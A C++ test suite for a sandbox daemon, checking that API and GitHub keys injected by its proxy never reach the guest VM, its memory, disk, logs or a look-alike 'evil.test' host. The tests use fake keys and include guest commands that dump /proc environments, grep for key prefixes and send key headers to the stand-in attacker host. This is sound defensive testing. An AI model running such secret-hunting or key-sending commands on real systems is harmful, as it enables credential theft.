// Secrets from a real guest: the key stays on the host. The guest's curl
// talks through sandboxd's proxy to a fake HTTPS upstream on the host's
// loopback, reached as api.anthropic.com through the test-only upstream
// override; the upstream must receive the real key, the guest must see a
// chain it verifies, and the key must be nowhere in the guest, the daemon's
// log or the network log.
#include <fcntl.h>
#include <gtest/gtest.h>
#include <sys/stat.h>
#include <unistd.h>

#include <condition_variable>
#include <cstdio>
#include <filesystem>
#include <mutex>
#include <set>
#include <thread>

#include "base/base64.h"
#include "base/fd.h"
#include "base/files.h"
#include "base/paths.h"
#include "harness/fake_https_upstream.h"
#include "harness/sandbox_suite.h"
#include "vm/qmp_client.h"

namespace sbx::testing {
namespace {

const char* kEnvKey = "sk-ant-api03-HOSTENV-7f3a9c1e5b";
const char* kStoredKey = "sk-ant-api03-STORED-2d8e4b6a0c";
const char* kGithubKey = "ghp_SBXTEST_4e1b7c9a2f6d";
const char* kHoldPath = "/hold/sbx-mid-request-7c1d93";
const char* kRefSha = "5d3c1b2a09f8e7d6c5b4a39281706f5e4d3c2b1a";

std::string pkt_line(const std::string& s) {
  char len[5];
  snprintf(len, sizeof len, "%04zx", s.size() + 4);
  return len + s;
}

// Stands in for api.anthropic.com and github.com: answers "upstream\n",
// git's ref advertisement for ls-remote, and holds kHoldPath until
// released, so a test can look at the guest while it waits mid-request.
class Upstream {
 public:
  Upstream() : server_([this](const UpstreamRequest& r) { return answer(r); }) {}
  uint16_t port() const { return server_.port(); }
  std::string ca_file() const { return server_.ca_file(); }
  std::vector<UpstreamRequest> requests() const { return server_.requests(); }
  std::vector<std::string> heads() const {
    std::vector<std::string> out;
    for (const auto& r : server_.requests()) out.push_back(r.head);
    return out;
  }
  void clear() { server_.clear(); }
  /// Waits until a request for kHoldPath arrived.
  bool wait_held(std::chrono::seconds timeout) {
    std::unique_lock l(mu_);
    return cv_.wait_for(l, timeout, [&] { return held_; });
  }
  void release() {
    std::lock_guard l(mu_);
    released_ = true;
    cv_.notify_all();
  }

 private:
  std::string answer(const UpstreamRequest& r) {
    if (r.path == kHoldPath) {
      std::unique_lock l(mu_);
      held_ = true;
      cv_.notify_all();
      cv_.wait_for(l, std::chrono::minutes(5), [&] { return released_; });
    }
    if (r.path.find("/info/refs") != std::string::npos)
      return FakeHttpsUpstream::response("200 OK", "application/x-git-upload-pack-advertisement",
                                         pkt_line("# service=git-upload-pack\n") + "0000" +
                                             pkt_line(std::string(kRefSha) + " refs/heads/main" +
                                                      std::string(1, '\0') + "agent=sbx-fake\n") +
                                             "0000");
    return FakeHttpsUpstream::response("200 OK", "text/plain", "upstream\n");
  }

  std::mutex mu_;
  std::condition_variable cv_;
  bool held_ = false, released_ = false;
  FakeHttpsUpstream server_;  // last: stops before the rest goes
};

Upstream& upstream() {
  static Upstream u;
  return u;
}

// Which of `needles` occur in the file at `path`, read in pieces (a guest
// memory dump is as large as the guest's memory).
std::set<std::string> found_in(const std::string& path, const std::vector<std::string>& needles) {
  std::set<std::string> found;
  Fd fd(::open(path.c_str(), O_RDONLY | O_CLOEXEC));
  if (!fd) return {"<cannot open " + path + ">"};
  size_t overlap = 0;
  for (const auto& n : needles) overlap = std::max(overlap, n.size());
  std::string buf;
  std::vector<char> tmp(1 << 20);
  for (;;) {
    ssize_t got = ::read(fd.get(), tmp.data(), tmp.size());
    if (got <= 0) break;
    buf.append(tmp.data(), static_cast<size_t>(got));
    for (const auto& n : needles)
      if (buf.find(n) != std::string::npos) found.insert(n);
    if (buf.size() > overlap) buf.erase(0, buf.size() - overlap);
  }
  return found;
}

std::vector<std::string> all_keys() { return {kEnvKey, kStoredKey, kGithubKey}; }

int mode_of(const std::string& p) {
  struct stat st {};
  if (::stat(p.c_str(), &st) != 0) return -1;
  return st.st_mode & 0777;
}

class Secrets : public SandboxSuite<Secrets> {
 public:
  static SandboxOptions options() {
    std::string to = "=127.0.0.1:" + std::to_string(upstream().port());
    return {.name = "sec",
            .workspace = "sec-ws",
            .create_flags = {"--memory", "768m"},
            .env = {{"SBX_TEST_UPSTREAM_OVERRIDE", "api.anthropic.com:443" + to +
                                                       ",api.anthropic.com.evil.test:443" + to +
                                                       ",github.com:443" + to},
                    // sandboxd verifies upstreams against this (the fake's CA).
                    {"SSL_CERT_FILE", upstream().ca_file()},
                    {"ANTHROPIC_API_KEY", kEnvKey}},
            .guest_user = ""};
  }
};

TEST_F(Secrets, GuestCurlVerifiesTheChainAndUpstreamGetsTheHostKey) {
  auto daemon_log = read_file(env().state_dir() + "/sandboxd.log");
  ASSERT_TRUE(daemon_log.ok());
  ASSERT_NE(daemon_log->find("the sbx CA is installed in the guest"), std::string::npos)
      << *daemon_log;
  upstream().clear();
  // No -k: the guest's system store must trust the sbx CA.
  auto r = guest(
      "curl -sS -m 60 -H \"x-api-key: $ANTHROPIC_API_KEY\" "
      "https://api.anthropic.com/v1/models");
  EXPECT_EQ(r.code, 0) << r.all();
  EXPECT_EQ(r.out, "upstream\n") << r.all();
  auto heads = upstream().heads();
  ASSERT_EQ(heads.size(), 1u) << r.all();
  EXPECT_NE(heads[0].find(std::string("x-api-key: ") + kEnvKey + "\r\n"), std::string::npos)
      << heads[0];
  EXPECT_EQ(heads[0].find("proxy-managed"), std::string::npos) << heads[0];
}

TEST_F(Secrets, StoredSecretBeatsTheHostEnvironment) {
  // Scoped to the running sandbox: applies at once (a global one would be
  // for sandboxes created after it).
  auto set = sbx({"secret", "set", "sec", "anthropic"}, std::string(kStoredKey) + "\n");
  ASSERT_EQ(set.code, 0) << set.all();
  auto ls = sbx({"secret", "ls", "--json"});
  EXPECT_EQ(ls.code, 0) << ls.all();
  EXPECT_EQ(ls.out.find(kStoredKey), std::string::npos) << "ls printed a value";
  EXPECT_EQ(ls.out.find(kEnvKey), std::string::npos) << "ls printed a value";
  upstream().clear();
  auto r = guest("curl -sS -m 60 https://api.anthropic.com/v1/models");
  EXPECT_EQ(r.code, 0) << r.all();
  auto heads = upstream().heads();
  ASSERT_EQ(heads.size(), 1u);
  EXPECT_NE(heads[0].find(std::string("x-api-key: ") + kStoredKey), std::string::npos) << heads[0];
}

TEST_F(Secrets, TheKeyIsNotInTheGuest) {
  auto env = guest(
      "echo \"$ANTHROPIC_API_KEY\"; sudo sh -c \"cat /proc/[0-9]*/environ\" 2>/dev/null | tr '\\0' "
      "'\\n'");
  EXPECT_EQ(env.code, 0) << env.all();
  EXPECT_EQ(env.out.substr(0, 14), "proxy-managed\n") << env.out.substr(0, 200);
  for (const char* k : {kEnvKey, kStoredKey})
    EXPECT_EQ(env.out.find(k), std::string::npos) << "the key is in the guest's environment";
  auto files = guest(
      "sudo grep -rlF -e sk-ant-api03-HOSTENV -e sk-ant-api03-STORED /etc /root /home "
      "/tmp /var/tmp 2>/dev/null; true");
  EXPECT_EQ(files.out, "") << "the key is in guest files: " << files.out;
}

// sandboxd read the key from its environment and then dropped it there:
// QEMU, which parses guest-controlled device traffic, never inherits it, and
// the daemon's own /proc environ shows no value.
TEST_F(Secrets, QemuAndSandboxdEnvironmentsHoldNoKey) {
  for (std::string pidfile :
       {env().runtime_dir() + "/vms/sec/qemu.pid", env().runtime_dir() + "/sandboxd.pid"}) {
    auto pid = read_file(pidfile);
    ASSERT_TRUE(pid.ok()) << pidfile;
    while (!pid->empty() && (pid->back() == '\n' || pid->back() == ' ')) pid->pop_back();
    auto text = read_file("/proc/" + *pid + "/environ");
    ASSERT_TRUE(text.ok()) << pidfile;
    EXPECT_NE(text->find("PATH="), std::string::npos) << pidfile << ": environ not read";
    EXPECT_EQ(text->find(kEnvKey), std::string::npos) << pidfile << ": the key is in its environ";
  }
}

TEST_F(Secrets, LookAlikeHostGetsNoKey) {
  ASSERT_EQ(sbx({"policy", "allow", "network", "api.anthropic.com.evil.test"}).code, 0);
  upstream().clear();
  // Relayed untouched (the guest sees the upstream's own chain, hence -k).
  auto r = guest(
      "curl -sSk -m 60 -H \"x-api-key: $ANTHROPIC_API_KEY\" "
      "https://api.anthropic.com.evil.test/");
  EXPECT_EQ(r.code, 0) << r.all();
  auto heads = upstream().heads();
  ASSERT_EQ(heads.size(), 1u) << r.all();
  EXPECT_NE(heads[0].find("x-api-key: proxy-managed"), std::string::npos) << heads[0];
  for (const char* k : {kEnvKey, kStoredKey}) EXPECT_EQ(heads[0].find(k), std::string::npos);
}

TEST_F(Secrets, HostMismatchIsRefusedInsideTheTunnel) {
  upstream().clear();
  auto r = guest("curl -sS -m 60 -H 'Host: other.example' https://api.anthropic.com/ ; true");
  EXPECT_NE(r.out.find("does not match"), std::string::npos) << r.all();
  EXPECT_TRUE(upstream().heads().empty());
}

TEST_F(Secrets, FileModesAndNoKeyInLogs) {
  std::string state = env().state_dir();
  EXPECT_EQ(mode_of(state + "/secrets"), 0700);
  EXPECT_EQ(mode_of(state + "/secrets/secrets.json"), 0600);
  EXPECT_EQ(mode_of(state + "/ca/ca-key.pem"), 0600);
  auto log = read_file(state + "/sandboxd.log");
  ASSERT_TRUE(log.ok());
  EXPECT_NE(log->find("TEST ONLY"), std::string::npos) << "the override was not logged";
  auto netlog = sbx({"policy", "log", "sec", "--json", "--limit", "1000"});
  EXPECT_EQ(netlog.code, 0) << netlog.all();
  EXPECT_NE(netlog.out.find("credential anthropic"), std::string::npos) << netlog.out;
  for (const char* k : {kEnvKey, kStoredKey}) {
    EXPECT_EQ(log->find(k), std::string::npos) << "key in sandboxd.log";
    EXPECT_EQ(netlog.out.find(k), std::string::npos) << "key in the network log";
  }
}

// Python's urllib (the system store, not sbx's variables) and git (as sbx
// configures it) accept the sbx CA on intercepted hosts; git's request
// gets the github credential as a Basic token.
TEST_F(Secrets, PythonAndGitAcceptTheSbxCa) {
  upstream().clear();
  auto py = guest(
      "env -u SSL_CERT_FILE -u REQUESTS_CA_BUNDLE -u CURL_CA_BUNDLE python3 -c \""
      "import urllib.request; print(urllib.request.urlopen("
      "'https://api.anthropic.com/v1/models', timeout=120).read().decode(), end='')\"");
  EXPECT_EQ(py.code, 0) << py.all();
  EXPECT_EQ(py.out, "upstream\n") << py.all();
  auto heads = upstream().heads();
  ASSERT_EQ(heads.size(), 1u) << py.all();
  EXPECT_NE(heads[0].find("x-api-key: sk-ant-api03-"), std::string::npos) << heads[0];

  ASSERT_EQ(sbx({"policy", "allow", "network", "github.com"}).code, 0);
  auto set = sbx({"secret", "set", "sec", "github", "-t", kGithubKey});
  ASSERT_EQ(set.code, 0) << set.all();
  upstream().clear();
  auto git = guest("git ls-remote https://github.com/sbx-test/repo.git");
  EXPECT_EQ(git.code, 0) << git.all();
  EXPECT_NE(git.out.find(std::string(kRefSha) + "\trefs/heads/main"), std::string::npos)
      << git.all();
  auto reqs = upstream().requests();
  ASSERT_FALSE(reqs.empty()) << git.all();
  EXPECT_EQ(reqs[0].sni, "github.com");
  EXPECT_EQ(reqs[0].header("Authorization"),
            "Basic " + base64_encode(std::string("x-access-token:") + kGithubKey))
      << reqs[0].head;
}

// A bypassed host is relayed opaquely: no key goes in, the guest's own
// header reaches the upstream as it was sent, and the network log says the
// connection was bypassed. (The guest verifies the upstream's chain here
// because sandboxd's SSL_CERT_FILE, the fake's CA, was copied into the
// guest at create as a host CA.)
TEST_F(Secrets, BypassedHostIsRelayedWithoutTheKey) {
  auto add = sbx({"secret", "bypass", "add", "sec", "api.anthropic.com"});
  ASSERT_EQ(add.code, 0) << add.all();
  upstream().clear();
  auto r = guest(
      "curl -sS -m 60 -H \"x-api-key: $ANTHROPIC_API_KEY\" https://api.anthropic.com/v1/models");
  auto rm = sbx({"secret", "bypass", "rm", "sec", "api.anthropic.com"});
  EXPECT_EQ(rm.code, 0) << rm.all();
  EXPECT_EQ(r.code, 0) << r.all();
  auto heads = upstream().heads();
  ASSERT_EQ(heads.size(), 1u) << r.all();
  EXPECT_NE(heads[0].find("x-api-key: proxy-managed"), std::string::npos) << heads[0];
  for (const auto& k : all_keys()) EXPECT_EQ(heads[0].find(k), std::string::npos) << heads[0];
  auto log = sbx({"policy", "log", "sec", "--json", "--limit", "20"});
  EXPECT_NE(log.out.find("bypassed: relayed without TLS interception"), std::string::npos)
      << log.out;
}

// While the guest waits for an answer (the upstream holds it), a dump of
// all guest memory over QMP holds the request in flight and no key.
TEST_F(Secrets, GuestMemoryMidRequestHoldsNoKey) {
  CmdResult held;
  std::thread client(
      [&] { held = guest(std::string("curl -sS -m 300 https://api.anthropic.com") + kHoldPath); });
  bool arrived = upstream().wait_held(std::chrono::seconds(180));
  std::string dump = env().root() + "/guest-memory.elf";
  Result<nlohmann::json> dumped = err("the request never reached the upstream");
  if (arrived) {
    auto qmp = vm::QmpClient::connect(env().runtime_dir() + "/vms/sec/qmp.sock",
                                      std::chrono::seconds(10), std::chrono::minutes(5));
    dumped =
        qmp ? qmp->execute("dump-guest-memory", {{"paging", false}, {"protocol", "file:" + dump}})
            : Result<nlohmann::json>(qmp.error());
  }
  upstream().release();
  client.join();
  ASSERT_TRUE(arrived) << held.all();
  ASSERT_TRUE(dumped.ok()) << dumped.error().message;
  EXPECT_EQ(held.out, "upstream\n") << held.all();
  std::vector<std::string> needles = all_keys();
  needles.push_back(kHoldPath);
  auto found = found_in(dump, needles);
  ::unlink(dump.c_str());
  EXPECT_TRUE(found.count(kHoldPath)) << "the dump does not hold the request in flight";
  for (const auto& k : all_keys()) EXPECT_FALSE(found.count(k)) << "a key is in guest memory";
}

// Last: it stops the sandbox. The root disk (the whole overlay, raw), a
// template saved from it and the network log database hold no key, while
// each holds what it should (a marker file; the services' names).
TEST_F(Secrets, StoppedDiskSavedTemplateAndNetworkLogHoldNoKey) {
  const std::string marker = "sbx-disk-marker-5b2e91";
  auto mark = guest("echo " + marker + " > /var/tmp/sbx-marker && sync");
  ASSERT_EQ(mark.code, 0) << mark.all();
  auto save = sbx({"template", "save", "sec", "sbx-secrets-leak", "--stop"});
  ASSERT_EQ(save.code, 0) << save.all();
  std::vector<std::string> needles = all_keys();
  needles.push_back(marker);
  auto paths = Paths::from_environment();
  ASSERT_TRUE(paths.ok());
  std::vector<std::string> images = {env().state_dir() + "/sandboxes/sec/disk.qcow2"};
  for (const auto& e : std::filesystem::directory_iterator(paths->cache + "/templates"))
    if (e.path().filename().string().rfind("layer-sbx-secrets-leak-", 0) == 0)
      images.push_back(e.path().string() + "/layer.qcow2");
  ASSERT_EQ(images.size(), 2u) << "the saved layer was not found";
  for (const auto& img : images) {
    auto found = found_in(img, needles);
    EXPECT_TRUE(found.count(marker))
        << img << ": the marker is missing, so the scan proves nothing";
    for (const auto& k : all_keys()) EXPECT_FALSE(found.count(k)) << img << " holds a key";
  }
  needles.push_back("credential anthropic");
  std::set<std::string> in_log;
  for (const char* f : {"/network.db", "/network.db-wal"})
    if (path_exists(env().state_dir() + f))
      for (auto& n : found_in(env().state_dir() + f, needles)) in_log.insert(n);
  EXPECT_TRUE(in_log.count("credential anthropic")) << "the network log was not scanned";
  for (const auto& k : all_keys()) EXPECT_FALSE(in_log.count(k)) << "the network log holds a key";
  (void)sbx({"template", "rm", "sbx-secrets-leak"});
}

}  // namespace
}  // namespace sbx::testing
